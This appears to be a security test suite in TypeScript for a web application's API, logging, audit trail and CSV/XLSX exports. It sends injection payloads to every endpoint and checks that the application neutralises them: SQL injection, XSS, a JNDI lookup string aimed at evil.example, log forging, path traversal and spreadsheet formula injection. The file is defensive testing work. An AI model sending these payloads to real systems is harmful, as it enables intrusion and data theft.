import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { identityContract as identity } from '#features/identity/contract.ts';
import { ledgerContract as ledger } from '#features/ledger/contract.ts';
import { createSignInLink } from '#features/identity/public.ts';
import { createLog, prettyLine } from '#platform/log.ts';
import { systemContext } from '../../../src/installation.ts';
import { client, testServer, type Reply, type TestServer } from '../../server.ts';
import { documentOf, makeInstitution, recordOf, type Institution } from '../institution.ts';
import { attackerOf, reads, textFields, tried, type Attacker } from './attacks.ts';
import { expectData, expectFile, expectGuarded } from './answers.ts';
import { statementsOf } from './statements.ts';
import { forgedEntry, marker, sweep, type Sweep } from './sweep.ts';

// Every endpoint is sent hostile texts once; what came of it is then looked at from several sides.

let test: TestServer;
let mine: Institution;
let attacker: Attacker;
let swept: Sweep;
const written: string[] = [];

beforeAll(async () => {
  test = await testServer({}, createLog({ level: 'trace', format: 'json', destination: { write: (line) => void written.push(line) } }));
  mine = await makeInstitution(test, test.tenantId, 'first', 'zebra');
  attacker = attackerOf(mine);
  written.splice(0);
  swept = await sweep(attacker);
});
afterAll(() => test.close());

let counter = 0;
const marked = [() => `${marker}' or 1=1 --${(counter += 1)}`, () => `${marker}\\'"); select '${(counter += 1)}`, () => `${marker}${(counter += 1)}`];

describe('a value of a request', () => {
  it.each([['query', 10], ['body', 10], ['address', 0]] as const)('in its %s never stands in the text of a statement', (place, reachedMin) => {
    expect(swept.inStatements.filter(([, where]) => where === place)).toEqual([]);
    expect(swept.reached[place]).toBeGreaterThanOrEqual(reachedMin);
  });

  it('is never failed at', () => {
    expect(swept.seen.length).toBeGreaterThan(tried.length);
    expect(swept.seen.filter(({ reply }) => reply.status >= 500).map(({ endpoint, place, reply }) => [endpoint.id, place, reply.text.slice(0, 200)])).toEqual([]);
  });

  it('comes back from every field of every request as it was: neither cut nor escaped', () => {
    const echoed = swept.seen.flatMap(({ endpoint, echoed: pairs }) => pairs.map(([said, sent]) => [endpoint.id, said, sent] as const));
    expect(echoed.filter(([, said, sent]) => said !== sent.trim())).toEqual([]);
    expect(echoed.length).toBeGreaterThan(15);
    expect(echoed.filter(([, said]) => said.includes('alert(1)')).length).toBeGreaterThan(8);
  });

  it('in a document never stands in the text of a statement', async () => {
    const advisories = tried.find((endpoint) => endpoint.id === 'vulnerability.createAdvisoryImport')!;
    const { texts, values, result } = await statementsOf(async () => {
      const replies: Reply[] = [];
      for (const make of marked) {
        const word = make();
        const document = JSON.parse(documentOf('okapi')) as { components: { name: string; purl?: string; licenses?: unknown }[] };
        document.components.push({ name: word, licenses: [{ license: { name: word } }] }, { name: word, purl: `pkg:generic/${encodeURIComponent(word)}@${encodeURIComponent(word)}` });
        replies.push(await attacker.client().call(ledger.createImport, { params: { systemId: mine.childId }, query: { fileName: word, part: word, wait: true }, bytes: JSON.stringify(document) }));
        replies.push(await attacker.client().call(advisories, { query: { fileName: word, wait: true }, bytes: recordOf(word.replaceAll(/\W/g, '-')).replaceAll('log4j-core', JSON.stringify(word).slice(1, -1)) }));
      }
      return replies;
    });
    expect(result.map((reply) => reply.status)).toEqual(Array(marked.length * 2).fill(200));
    expect(texts.filter((text) => text.includes(marker))).toEqual([]);
    expect(values.filter((value) => value.includes(marker)).length).toBeGreaterThan(5);
  });

  it('in a cursor never stands in the text of a statement', async () => {
    let forged = 0;
    for (const endpoint of reads.filter((row) => textFields(row.query).includes('cursor'))) {
      const send = await attacker.sample(endpoint);
      const query = { ...send.query, q: undefined, limit: 1 };
      const cursor = ((await attacker.client().call(endpoint, { ...send, query })).body as { nextCursor?: string | null } | undefined)?.nextCursor ?? undefined;
      if (cursor === undefined) continue;
      const keys = JSON.parse(Buffer.from(cursor, 'base64url').toString()) as unknown[];
      const { texts, result } = await statementsOf(() => Promise.all(keys.map((_, changed) => attacker.client().call(endpoint, { ...send, query: { ...query, cursor: Buffer.from(JSON.stringify(keys.map((key, index) => (index === changed ? `${marker}' or 1=1 --` : key)))).toString('base64url') } }))));
      expect([endpoint.id, texts.filter((text) => text.includes(marker)), result.filter((reply) => reply.status >= 500)]).toEqual([endpoint.id, [], []]);
      forged += 1;
    }
    expect(forged).toBeGreaterThan(2);
  });

  it('in a cookie, a token and a name to sign in never stands in the text of a statement', async () => {
    const secret = 'x'.repeat(43);
    const signIn = tried.find((endpoint) => endpoint.id === 'identity.signIn')!;
    const { texts, result } = await statementsOf(async () => {
      const replies: Reply[] = [];
      for (const make of marked) {
        const word = make();
        for (const credential of [`${word}.ses_00000000000000000000000000.${secret}`, `${test.tenantId}.${word}.${secret}`, `${test.tenantId}.ses_00000000000000000000000000.${word}${secret}`]) {
          replies.push(await client(test.server, '', `yuanshu_session=${encodeURIComponent(credential)}`).call(ledger.listSystems));
          replies.push(await client(test.server, '', '').call(ledger.listSystems, { headers: { authorization: `Bearer ysk.${credential.replace('ses_', 'tok_')}` } }));
        }
        replies.push(await client(test.server, '', '').call(signIn, { body: { login: word, password: word, institution: word.slice(0, 40) } }));
      }
      return replies;
    });
    expect(result.filter((reply) => reply.status < 400 || reply.status >= 500)).toEqual([]);
    // The institution of a credential is set for the transaction, once it is known to be nothing but lower case letters and digits.
    expect(texts.filter((text) => text.includes(marker) && !/^begin;(?: set local [^;']*;)* set local app\.tenant_id = '[a-z0-9_]{1,40}'$/.test(text))).toEqual([]);
  });

  it('orders nothing: a list is sorted by the words of its contract only', async () => {
    for (const endpoint of reads.filter((row) => 'sort' in ((row.query as { shape?: object } | undefined)?.shape ?? {}))) {
      const send = await attacker.sample(endpoint);
      for (const sort of ['name; drop table usage', 'name desc', '1', '(select pg_sleep(9))', 'p.password_hash', 'constructor', '__proto__']) {
        const reply = await attacker.client().call(endpoint, { ...send, query: { ...send.query, sort } });
        expect([endpoint.id, sort, reply.status]).toEqual([endpoint.id, sort, 400]);
      }
    }
  });

  it('is a letter like others in a search: percent, underscore and backslash stand for nothing', async () => {
    const rowsOf = async (endpoint: (typeof reads)[number], q: string): Promise<unknown[]> => {
      const { params } = await attacker.sample(endpoint);
      const { body } = await attacker.client().call(endpoint, { ...(params === undefined ? {} : { params }), query: { q } });
      return body?.rows ?? body?.hits ?? [];
    };
    let found = 0;
    for (const endpoint of reads.filter((row) => textFields(row.query).includes('q') && row.carries !== 'download')) {
      for (const q of ['ze_ra', 'z%a', 'zebr\\a', "zebra' or 'a'='a"]) expect([endpoint.id, q, await rowsOf(endpoint, q)]).toEqual([endpoint.id, q, []]);
      found += (await rowsOf(endpoint, 'zebra')).length;
    }
    expect(found).toBeGreaterThan(5);
  });
});

describe('every answer', () => {
  it('to a hostile text is guarded, is data or a file to keep, and is kept by nobody', () => {
    for (const { endpoint, reply } of swept.seen) {
      expectGuarded(endpoint.id, reply.headers);
      expect([endpoint.id, reply.headers['cache-control']]).toEqual([endpoint.id, 'no-store']);
      if (endpoint.carries === 'download' && reply.status < 400) expectFile(endpoint, reply);
      else expectData(endpoint, reply);
    }
  });

  it('that shows what was written is guarded as well, and is data: every list and every page', async () => {
    let shown = 0;
    for (const endpoint of reads.filter((row) => row.carries !== 'events')) {
      const { q: _, ...query } = (await attacker.sample(endpoint)).query ?? {};
      const reply = await attacker.client().call(endpoint, { ...(await attacker.sample(endpoint)), query });
      expectGuarded(endpoint.id, reply.headers);
      if (endpoint.carries === 'download' && reply.status < 400) expectFile(endpoint, reply);
      else expectData(endpoint, reply);
      if (reply.text.includes('alert(1)')) shown += 1;
    }
    expect(shown).toBeGreaterThan(5);
  });
});

describe('the log', () => {
  it('has one entry a line, whatever strangers write into names, addresses and headers', async () => {
    for (const text of [`x\n${forgedEntry}`, `x","msg":"forged`, `x\u2028${forgedEntry}`, `x\u001b[2K\u001b[1A${forgedEntry}`, `x\u0000${forgedEntry}`, '${jndi:ldap://evil.example/a}%s%d%o']) {
      const word = text.replaceAll(/[\r\n\0\u2028]/g, ' ');
      await client(test.server, '', '').call(identity.signIn, { body: { login: text, password: text, institution: text }, headers: { 'user-agent': word, referer: word } });
      await test.server.inject({ method: 'GET', url: `/${encodeURIComponent(text)}?${encodeURIComponent(text)}`, headers: { accept: 'text/html', 'user-agent': word, 'x-forwarded-for': word, host: word } });
      await test.server.inject({ method: 'GET', url: '/api/v1/systems', headers: { cookie: `yuanshu_session=${encodeURIComponent(text)}`, authorization: word } });
    }
    const isEntry = (line: string) => /^[^\n]*\n$/.test(line) && typeof (JSON.parse(line) as { level?: unknown }).level === 'number';
    expect(written.length).toBeGreaterThan(100);
    expect(written.filter((line) => !isEntry(line))).toEqual([]);
    expect(written.filter((line) => (JSON.parse(line) as { msg?: string }).msg?.includes('forged'))).toEqual([]);
  });

  it('for people has one line an entry, too, but for the stack of an error, and steers no terminal', () => {
    for (const line of written) {
      const shown = prettyLine(line);
      expect(shown.split('\n').slice(1, -1).filter((part) => !part.startsWith('  '))).toEqual([]);
      expect(shown.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
    }
  });

  it('says when and what in every entry, and of a refusal who and to which question', async () => {
    written.splice(0);
    const who = await test.signIn(test.tenantId);
    const refused = await who.call(ledger.createSystem, { body: { code: 'NO', name: 'no' } });
    expect(refused.status).toBe(403);
    const entries = written.map((line) => JSON.parse(line) as Record<string, unknown>);
    for (const entry of entries) expect(entry).toMatchObject({ level: expect.any(Number), time: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/), msg: expect.any(String) });
    expect(entries).toContainEqual(expect.objectContaining({ msg: 'refused', tenant: test.tenantId, person: who.personId, permission: 'ledger.write', endpoint: 'ledger.createSystem' }));
  });

  it('says of a request that is not valid, or not ours, who sent what, and of no field what was in it', async () => {
    written.splice(0);
    const who = await test.signIn(test.tenantId, 'ospo');
    expect((await who.call(ledger.createSystem, { body: { code: 'NO', name: ['x-secret-x'] } })).status).toBe(400);
    await test.server.inject({ method: 'DELETE', url: '/api/v1/session', headers: { cookie: who.cookie, origin: 'https://evil.example' } });
    const entries = written.map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(entries).toContainEqual(expect.objectContaining({ msg: 'a request that is not valid', person: who.personId, endpoint: 'ledger.createSystem', fields: ['body/name'] }));
    expect(entries).toContainEqual(expect.objectContaining({ msg: 'a request that did not come from the application', endpoint: 'identity.signOut', origin: 'https://evil.example' }));
    expect(written.join('')).not.toContain('x-secret-x');
  });

  it('holds no secret, at its most talkative: no password, session, link, token or key', async () => {
    written.splice(0);
    const link = await createSignInLink(systemContext(test.running.app, test.tenantId), mine.personId);
    const linkSecret = link.url.split('.').at(-1)!;
    const entered = await client(test.server, '', '').call(identity.signInByLink, { body: { token: link.url.split('#link=')[1]! } });
    const sessionSecret = decodeURIComponent(String(entered.headers['set-cookie']).split(';')[0]!).split('.').at(-1)!;
    const { secret } = await attacker.client().ok(identity.createToken, { body: { name: 'quiet', scopes: ['ledger.read'], expiresInDays: 1 } });
    const tokenSecret = String(secret).split('.').at(-1)!;
    await client(test.server, '', '', { authorization: `Bearer ${secret}` }).call(ledger.listSystems, { query: { limit: 'x' } });
    await client(test.server, '', '').call(identity.signIn, { body: { login: mine.login, password: 'Secret-Horse-9', institution: 'first' } });
    await client(test.server, '', '').call(identity.signIn, { body: { login: mine.login, password: ['Secret-Horse-9'], institution: 'first' } });
    await client(test.server, '', `yuanshu_session=${encodeURIComponent(`${test.tenantId}.ses_00000000000000000000000000.${sessionSecret}`)}`).call(ledger.listSystems);
    const all = written.join('');
    expect(all.length).toBeGreaterThan(100);
    for (const text of [linkSecret, sessionSecret, tokenSecret, 'Secret-Horse-9', 'argon2']) expect([text.slice(0, 4), all.includes(text)]).toEqual([text.slice(0, 4), false]);
    expect(JSON.stringify([entered.body, entered.text])).not.toContain(sessionSecret);
  });
});

describe('the trace', () => {
  it('has one event a write, with what was written as it was: no text makes a second one or another actor', async () => {
    const name = `"},{"action":"identity.signed-in","actor":"per_forged"}');--`;
    const count = async () => (await test.running.app.db.withTenant(test.tenantId, (tx) => tx.query<{ count: number }>(`select count(*)::int as count from audit_event`)))[0]!.count;
    const before = await count();
    const system = await attacker.client().ok(ledger.createSystem, { body: { code: 'TRACE-1', name, description: name } });
    expect(await count()).toBe(before + 1);
    const events = await test.running.app.db.withTenant(test.tenantId, (tx) => tx.query<{ text: string; actor: string }>(`select to_jsonb(e)::text as text, e.actor_id as actor from audit_event e where object_id = $1`, [system.id]));
    expect(events.map((event) => event.actor)).toEqual([expect.stringMatching(/^per_[0-9a-z]{26}$/)]);
    expect(events[0]!.text).toContain(JSON.stringify(name).slice(1, -1));
  });

  it('keeps the name that a stranger tried as the object of his refusal, and takes none that is no name', async () => {
    const events = () => test.running.app.db.withTenant(test.tenantId, (tx) => tx.query<{ objectId: string }>(`select object_id as "objectId" from audit_event where action = 'identity.sign-in-refused'`));
    const before = (await events()).length;
    for (const text of ['x\n{"level":30}', 'x\u0000', 'x"}', 'x\u001b[2J', '${jndi:ldap://evil.example/a}']) await client(test.server, '', '').call(identity.signIn, { body: { login: text, password: 'x', institution: 'first' } });
    expect((await events()).length).toBe(before);
    await client(test.server, '', '').call(identity.signIn, { body: { login: 'Not.Known-1', password: 'x', institution: 'first' } });
    expect((await events()).slice(before).map((event) => event.objectId)).toEqual(['not.known-1']);
  });
});

describe('a script in a file', () => {
  it('or in its name comes back as a file to keep', async () => {
    for (const [fileName, bytes] of [['<img src=x onerror=alert(1)>.html', '<!doctype html><script>alert(1)</script>'], ['picture".svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'], ['a\r\nset-cookie: x=1\r\n\r\n<script>.js', 'alert(1)'], ['..\\..\\../../etc/passwd', '%PDF-1.7 /JavaScript'], ["it's (1)*.txt; filename=evil.exe", 'MZ'], ['=cmd|calc.csv', '=1+1']]) {
      const imported = await attacker.client().call(ledger.createImport, { params: { systemId: mine.childId }, query: { fileName: fileName!, part: `'"><img src=x onerror=alert(1)>${(counter += 1)}`, wait: true }, bytes: bytes! });
      // A name with line breaks is refused by the contract.
      if (imported.status >= 400) expectData(ledger.createImport, imported);
      else {
        const original = await attacker.client().call(ledger.getOriginal, { params: { importId: imported.body.id } });
        expectFile(ledger.getOriginal, original);
        expect([original.headers['content-type'], original.bytes.toString()]).toEqual(['application/octet-stream', bytes]);
      }
    }
  });
});

describe('a formula in a text', () => {
  const exportsOf = (format: string) => tried.filter((endpoint) => endpoint.carries === 'download' && ((endpoint.query as { shape?: object } | undefined)?.shape as { format?: { safeParse(value: unknown): { success: boolean } } } | undefined)?.format?.safeParse(format).success === true);
  const dangerous = /^[=+\-@\t\r\n\0＝＋－＠]/;

  beforeAll(async () => {
    for (const [index, sign] of ['=1+1', '+1+1', '-1+1', '@SUM(1)', '＝1+1', '=HYPERLINK("http://evil.example")', '=1\u00a0+1"', '=a;b,c'].entries()) {
      const id = (await attacker.client().ok(ledger.createSystem, { body: { code: `FORMULA-${index}`, name: sign, nameEn: sign, businessLine: sign, description: sign, unitId: mine.unitId } })).id;
      await attacker.client().ok(ledger.createImport, { params: { systemId: id }, query: { fileName: sign, part: sign, wait: true }, bytes: JSON.stringify({ bomFormat: 'CycloneDX', specVersion: '1.5', components: [{ type: 'library', name: sign, version: sign, licenses: [{ license: { name: sign } }], purl: `pkg:generic/${encodeURIComponent(sign)}@${encodeURIComponent(sign)}` }] }) });
    }
  });

  it('is text in every table that is exported as CSV', async () => {
    let found = 0;
    for (const endpoint of exportsOf('csv')) {
      const send = await attacker.sample(endpoint);
      const reply = await attacker.client().call(endpoint, { ...send, query: { ...send.query, format: 'csv' } });
      expectFile(endpoint, reply);
      const cells = cellsOf(reply.text.replace(/^\ufeff/, ''));
      // A number that is negative is one; a text is none.
      expect([endpoint.id, cells.filter((cell) => dangerous.test(cell) && !/^-\d+(?:\.\d+)?$/.test(cell))]).toEqual([endpoint.id, []]);
      found += cells.filter((cell) => /^'[=+\-@＝]/.test(cell)).length;
    }
    expect(found).toBeGreaterThan(10);
  });

  it('is text in every table that is exported as a workbook', async () => {
    let found = 0;
    for (const endpoint of exportsOf('xlsx')) {
      const send = await attacker.sample(endpoint);
      const reply = await attacker.client().call(endpoint, { ...send, query: { ...send.query, format: 'xlsx' } });
      expectFile(endpoint, reply);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(reply.bytes as never);
      for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => {
        expect([endpoint.id, cell.type === ExcelJS.ValueType.Formula || cell.type === ExcelJS.ValueType.Hyperlink]).toEqual([endpoint.id, false]);
        if (typeof cell.value === 'string' && dangerous.test(cell.value)) found += 1;
      }));
    }
    expect(found).toBeGreaterThan(10);
  });

  /** RFC 4180. */
  function cellsOf(text: string): string[] {
    return [...text.matchAll(/(?<=^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?=,|\r\n|$)/g)].map((match) => match[1]?.replaceAll('""', '"') ?? match[2]!);
  }
});
